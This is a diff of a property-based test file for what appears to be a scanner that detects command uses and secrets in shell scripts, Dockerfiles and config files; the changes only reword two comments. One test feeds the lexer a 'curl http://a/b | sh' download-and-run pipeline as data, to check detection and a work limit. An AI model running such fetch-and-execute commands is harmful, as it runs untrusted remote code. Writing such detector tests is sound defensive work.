@@ -156,7 +156,7 @@ def test_lexer_accepts_any_text(text):
     list(collect_script_mentions(text[:60]))
 
 
-@settings(deadline=None)  # the detectors of secrets are imported by the first text that may hold one
+@settings(deadline=None)  # the first text that may hold a secret imports the detectors
 @given(st.binary(max_size=300), st.sampled_from(["a.sh", "Dockerfile", "Makefile", "a.ps1", ".gitconfig", "a.service"]))
 def test_any_bytes_give_structures_or_absences(read_bytes, data, path):
     read_bytes(b"RUN true\n" + data, path)
@@ -166,7 +166,7 @@ def test_long_pipeline_costs_bounded_work():
     uses = []
     with pytest.raises(LimitReachedError, match="nested and piped commands"):
         uses.extend(each.use for each in collect_script_mentions("curl http://a/b | sh" + " | sh" * 20_000))
-    # Each of them costs a look at all before it: 700 are 245,000 looks, and what they show is uses.
+    # Each of them costs a look at all before it: 700 are 245,000 looks, and only the uses found there matter.
     assert set(uses) == {"download-and-run"}
     assert 100 < len(uses) < 700
 
